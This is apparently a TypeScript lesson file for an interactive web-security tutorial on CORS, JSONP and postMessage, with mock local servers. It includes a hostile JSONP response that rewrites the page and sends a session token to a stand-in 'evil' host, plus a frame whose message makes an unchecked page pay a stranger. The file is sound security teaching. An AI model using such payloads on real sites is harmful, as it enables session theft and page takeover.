import { newPolicy } from '#shared/policy/policy'
import { all, exchange, inTurn, report } from '../facts.ts'
import type { Lesson } from '../lesson.ts'
import { pageHTML, pageRoutes, route } from '../page-html.ts'

const corsReader = pageHTML({
  title: 'A page that asks by fetch',
  button: 'Read the notes',
  script: `await read('cors', 'http://localhost:{api}/notes')`,
})

/** Loads a script and waits until it has run. */
const include = `
const include = (src) => new Promise((resolve, reject) => {
  const script = document.createElement('script')
  Object.assign(script, { src, onload: resolve, onerror: () => reject(new Error('the script did not load')) })
  document.body.append(script)
})`

const jsonpReader = pageHTML({
  title: 'A page that asks by JSONP',
  button: 'Read the notes',
  script: `
${include}
window.show = (notes) => saw('jsonp', 'read', JSON.stringify(notes))
await include('http://localhost:{api}/notes.js?callback=show').catch((error) => saw('jsonp', 'blocked', error))`,
})

const bank = pageHTML({
  title: 'Ada’s bank',
  button: 'Show the weather',
  text: 'Ada is logged in. Her session stands in a hidden field.',
  body: '<input type="hidden" id="session" value="ada-7f3c">',
  script: `
${include}
window.show = (weather) => saw('weather', 'read', JSON.stringify(weather))
await include('{evil.origin}/weather.js?callback=show').catch((error) => saw('weather', 'blocked', error))
saw('heading', 'done', document.querySelector('h1').textContent)`,
})

/** It calls the callback, as asked; and then it does as it likes. */
const hostileJSONP = `show({ sky: 'clear' });
document.querySelector('h1').textContent = 'This page is ours now';
new Image().src = '{evil.origin}/taken?session=' + document.querySelector('#session').value;`

/** A page that is told whom to pay by frames that it shows: its partner’s, and a stranger’s. */
const payer = (name: string, guard: string) =>
  pageHTML({
    title: `A page that listens, ${name}`,
    button: 'Show both frames',
    script: `
const partner = 'http://localhost:{api}'
const listen = (step, url) => new Promise((resolve) => {
  const frame = document.createElement('iframe')
  addEventListener('message', async (event) => {
    if (event.source !== frame.contentWindow) return
    const ignored = ${guard}
    if (!ignored) await fetch('/pay?to=' + event.data, { method: 'POST' })
    saw(step + ', ${name}', ignored ? 'blocked' : 'done', (ignored ? 'ignored ' : 'paid ') + event.data + ', as ' + event.origin + ' said')
    resolve()
  })
  frame.src = url
  document.body.append(frame)
})
await Promise.all([listen('partner', partner + '/frame'), listen('stranger', '{evil.origin}/frame')])`,
  })

const frameThatSays = (to: string) =>
  `<!doctype html><html lang="en"><title>A frame</title><p>Pay ${to}</p><script>parent.postMessage('${to}', 'http://localhost:{client}')</script></html>`

const javascript = [['Content-Type', 'text/javascript']] as const
const html = [['Content-Type', 'text/html; charset=utf-8']] as const
const notes = '["Call the bank","Water the fern"]'

const byCORS = (outcome: 'read' | 'blocked') => report({ role: 'client', step: 'cors', outcome })
const paid = (to: string) => exchange({ role: 'client', kind: 'request', method: 'POST', target: `/pay?to=${to}` })
const heard = (step: string, outcome: 'done' | 'blocked') => report({ role: 'client', step, outcome })

export const exceptions: Lesson = {
  id: 'exceptions',
  title: 'The exceptions',
  minutes: 9,
  servers: [
    {
      role: 'api',
      name: 'Notes server',
      port: 5000,
      definition: {
        policy: { ...newPolicy, origins: 'none' },
        routes: [
          route('GET', '/notes', 200, [['Content-Type', 'application/json']], notes),
          route('GET', '/notes.js', 200, javascript, `show(${notes})`),
          route('GET', '/frame', 200, html, frameThatSays('Ada')),
        ],
      },
    },
    {
      role: 'client',
      name: 'Client page',
      port: 8000,
      definition: {
        routes: [
          ...pageRoutes({
            '/': corsReader,
            '/jsonp': jsonpReader,
            '/bank': bank,
            '/unchecked': payer('unchecked', 'false'),
            '/checked': payer('checked', 'event.origin !== partner'),
          }),
          route('POST', '/pay', 204, [], ''),
        ],
      },
    },
    {
      role: 'evil',
      name: 'A stranger',
      port: 8666,
      host: 'evil.test',
      definition: {
        routes: [
          route('GET', '/weather.js', 200, javascript, hostileJSONP),
          route('GET', '/taken', 204, [], ''),
          route('GET', '/frame', 200, html, frameThatSays('Mallory')),
        ],
      },
    },
  ],
  steps: [
    {
      title: 'CORS',
      text: [
        'The same-origin policy keeps a page from reading what is of another origin. Sometimes it should read. The proper way is that the one who answers says so: Cross-Origin Resource Sharing, CORS.',
        'Press the button: the script gets an error. Then let Anybody read, and press again. The server now adds `Access-Control-Allow-Origin: *` to the same notes, and the browser hands them over.',
        'What is opened is this one server’s answer, by its own word, and nothing of the page.',
      ],
      why: { page: { origin: 'http://localhost:{client}' }, request: { api: 'fetch', url: 'http://localhost:{api}/notes', headers: [] } },
      checks: [
        { id: 'blocked', text: 'Without a word of the server the page was kept from reading', done: all(byCORS('blocked')) },
        { id: 'read', text: 'With it the page has read', done: inTurn(byCORS('blocked'), byCORS('read')) },
      ],
      bench: [
        { part: 'policy', server: 'api' },
        { part: 'pages', pages: [{ id: 'cors', url: 'http://localhost:{client}/', button: 'Read the notes' }] },
        { part: 'log', servers: ['api'] },
      ],
    },
    {
      title: 'JSONP',
      text: [
        'Older than CORS: a script may come from anywhere, and it runs in the page. So the server wraps its data in a call, `show([…])`, and the page has a function of that name ready. It reads, whoever the policy lets in. So can every other page: the server has no say in who.',
        'And the page has none in what arrives. Ada’s bank asks a stranger for the weather that way. The answer calls `show`, as agreed; then it takes her session out of the page and sends it home. It could do whatever the page can do. A script from elsewhere is not data: whoever sends it owns the page.',
        'Where you meet JSONP, replace it by CORS.',
      ],
      checks: [
        {
          id: 'jsonp',
          text: 'JSONP has read the notes',
          done: all(
            report({ role: 'client', step: 'jsonp', outcome: 'read', text: /fern/ }),
            exchange({ role: 'api', target: /^\/notes\.js/ }),
          ),
        },
        {
          id: 'stolen',
          text: 'The session has arrived at the stranger’s',
          done: all(exchange({ role: 'evil', target: /^\/taken\?session=ada-/ })),
        },
        {
          id: 'owned',
          text: 'The stranger has rewritten the page',
          done: all(report({ role: 'client', step: 'heading', text: 'This page is ours now' })),
        },
      ],
      bench: [
        {
          part: 'pages',
          pages: [
            { id: 'jsonp', url: 'http://localhost:{client}/jsonp', button: 'Read the notes by JSONP' },
            { id: 'bank', url: 'http://localhost:{client}/bank', button: 'Show the weather' },
          ],
        },
        { part: 'log', servers: ['api', 'evil'] },
      ],
    },
    {
      title: 'Messages',
      text: [
        'Two windows may talk although their origins differ: `postMessage` carries a value from one to the other. It reads nothing; both sides must want it. But any page may send one to yours: a frame in it, a page that frames it or opened it.',
        'This page pays whom a message names. It shows its partner’s frame, and a stranger’s. Without a check both are obeyed. The browser states the sender in `event.origin`, and a sender cannot forge that: compare it, whole, before you look at `event.data`.',
        'The other direction needs care, too: give `postMessage` the origin that is meant as its second argument. With `*` whoever is in that window by then gets it.',
      ],
      checks: [
        {
          id: 'unchecked',
          text: 'Without a check the stranger was obeyed',
          done: all(paid('Mallory'), heard('stranger, unchecked', 'done')),
        },
        {
          id: 'checked',
          text: 'With it the stranger was ignored, and the partner was heard',
          done: all(paid('Ada'), heard('partner, checked', 'done'), heard('stranger, checked', 'blocked')),
        },
      ],
      bench: [
        {
          part: 'pages',
          pages: [
            { id: 'unchecked', url: 'http://localhost:{client}/unchecked', button: 'Listen without a check' },
            { id: 'checked', url: 'http://localhost:{client}/checked', button: 'Listen with a check' },
          ],
        },
        { part: 'log', servers: ['client'] },
      ],
    },
  ],
}
